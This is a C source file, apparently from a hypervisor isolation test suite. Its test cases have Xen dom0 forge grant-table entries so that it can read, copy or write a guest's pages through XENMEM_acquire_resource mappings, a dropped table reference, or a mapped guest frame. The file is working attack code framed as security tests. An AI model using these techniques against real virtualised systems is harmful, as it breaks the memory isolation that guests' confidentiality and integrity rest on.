/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: forged grants
 *
 * Claim:  dom0 grants itself any page of a guest, in the guest's name.
 * Method: the frame of the guest's grant table is mapped: by
 *         XENMEM_acquire_resource, before the guest runs or while it does
 *         (with the domain's own reference dropped meanwhile, so that nobody
 *         counts the mapping), or as the guest frame where the guest has it;
 *         an entry for a page of
 *         lines is written, and the grant mapped.
 * Stock:  the frame is mapped, writable; the grant is as good as any.
 */
#include <string.h>
#include <sys/mman.h>

#include <xengnttab.h>

#include "../attack.h"

#include <xen/grant_table.h>

#define REF 100

static xenforeignmemory_resource_handle *map_table(struct victim *v,
                                                   void **table)
{
    *table = NULL;
    return xenforeignmemory_map_resource(
        fmem, v->id, XENMEM_resource_grant_table,
        XENMEM_resource_grant_table_id_shared, 0, 1, table,
        PROT_READ | PROT_WRITE, 0);
}

/* For reading and writing. */
static int write_entry(void *table)
{
    grant_entry_v1_t *entry = (grant_entry_v1_t *)table + REF;

    entry->domid = 0;
    entry->frame = LINES_GFN;
    __sync_synchronize();
    entry->flags = GTF_permit_access;
    return 0;
}

static enum verdict map_forged(struct victim *v)
{
    xengnttab_handle *gnttab = xengnttab_open(NULL, 0);
    void *page;
    unsigned long found;

    if ( !gnttab )
        return verdict(ERROR, "no grant device");
    page = xengnttab_map_grant_ref(gnttab, v->id, REF, PROT_READ);
    found = page ? markers_in(page, PAGE) : 0;
    if ( page )
        xengnttab_unmap(gnttab, page, 1);
    xengnttab_close(gnttab);
    return verdict(found ? SUCCESS : FAILURE, "%lu markers in a page%s", found,
                   page ? "" : ", no grant");
}

static enum verdict grant_forged(struct victim *v)
{
    void *table;

    if ( !map_table(v, &table) || !table || attempt(write_entry, table) )
        return verdict(FAILURE, "no writable mapping of the grant table");
    return map_forged(v);
}
ATTACK(grant_forged, .needs = SHARED);

static enum verdict grant_forged_kept(struct victim *v)
{
    void *table;

    if ( !map_table(v, &table) || !table )
        return verdict(ERROR, "no mapping of the grant table in the building");
    if ( !victim_runs(v) )
        return verdict(FAILURE, "the guest does not run");
    if ( attempt(write_entry, table) )
        return verdict(FAILURE, "the mapping is not writable");
    return map_forged(v);
}
ATTACK(grant_forged_kept, .needs = BUILT);

/*
 * Put into the guest's map and taken out again: the domain's own reference to
 * the table is dropped, and dom0's mapping is the only one.
 */
static int drop_reference(struct victim *v)
{
    xen_pfn_t gfn = VICTIM_GRANTS / PAGE;
    struct xen_add_to_physmap op = {
        .domid = v->id,
        .space = XENMAPSPACE_grant_table,
        .gpfn = gfn,
    };

    if ( memory_op(XENMEM_add_to_physmap, &op, sizeof(op)) )
        return -1;
    return xc_domain_decrease_reservation(xch, v->id, 1, 0, &gfn) == 1 ? 0
                                                                       : -1;
}

static enum verdict grant_forged_dropped(struct victim *v)
{
    void *table;

    if ( !map_table(v, &table) || !table )
        return verdict(ERROR, "no mapping of the grant table in the building");
    if ( drop_reference(v) )
        return verdict(FAILURE, "the table's reference cannot be dropped");
    if ( !victim_runs(v) )
        return verdict(FAILURE, "the guest does not run");
    if ( attempt(write_entry, table) )
        return verdict(FAILURE, "the mapping is not writable");
    return map_forged(v);
}
ATTACK(grant_forged_dropped, .needs = BUILT);

static enum verdict grant_forged_early(struct victim *v)
{
    void *table;

    if ( !map_table(v, &table) || !table )
        return verdict(ERROR, "no mapping of the grant table in the building");
    write_entry(table);
    munmap(table, PAGE);
    if ( !victim_runs(v) )
        return verdict(FAILURE, "the guest does not run");
    return map_forged(v);
}
ATTACK(grant_forged_early, .needs = BUILT);

static enum verdict grant_frame_mapped(struct victim *v)
{
    void *table = map_page(v->id, VICTIM_GRANTS / PAGE, true);

    if ( !table || attempt(write_entry, table) )
        return verdict(FAILURE, "no writable mapping of the grant table");
    return map_forged(v);
}
ATTACK(grant_frame_mapped, .needs = SHARED);

/* By a copy, which has a path of its own. */
static enum verdict grant_copy_forged(struct victim *v)
{
    xengnttab_handle *gnttab = xengnttab_open(NULL, 0);
    static uint8_t page[PAGE] __attribute__((aligned(PAGE)));
    xengnttab_grant_copy_segment_t copy = {
        .source.foreign = {.ref = REF, .domid = v->id},
        .dest.virt = page,
        .len = PAGE,
        .flags = GNTCOPY_source_gref,
    };
    unsigned long found;
    void *table;

    if ( !gnttab )
        return verdict(ERROR, "no grant device");
    if ( !map_table(v, &table) || !table || attempt(write_entry, table) )
        return verdict(FAILURE, "no writable mapping of the grant table");
    if ( xengnttab_grant_copy(gnttab, 1, &copy) )
        return verdict(FAILURE, "no copy");
    found = markers_in(page, PAGE);
    return verdict(found ? SUCCESS : FAILURE, "%lu markers copied: %d", found,
                   copy.status);
}
ATTACK(grant_copy_forged, .needs = SHARED);

/* And for writing. */
static enum verdict grant_write_forged(struct victim *v)
{
    xengnttab_handle *gnttab = xengnttab_open(NULL, 0);
    void *table;
    char *page;

    if ( !gnttab )
        return verdict(ERROR, "no grant device");
    if ( !map_table(v, &table) || !table || attempt(write_entry, table) )
        return verdict(FAILURE, "no writable mapping of the grant table");
    page = xengnttab_map_grant_ref(gnttab, v->id, REF, PROT_READ | PROT_WRITE);
    if ( !page )
        return verdict(FAILURE, "no grant");
    page[0] = 'X';
    xengnttab_unmap(gnttab, page, 1);
    return victim_complains(v, "BAD");
}
ATTACK(grant_write_forged, .needs = SHARED);
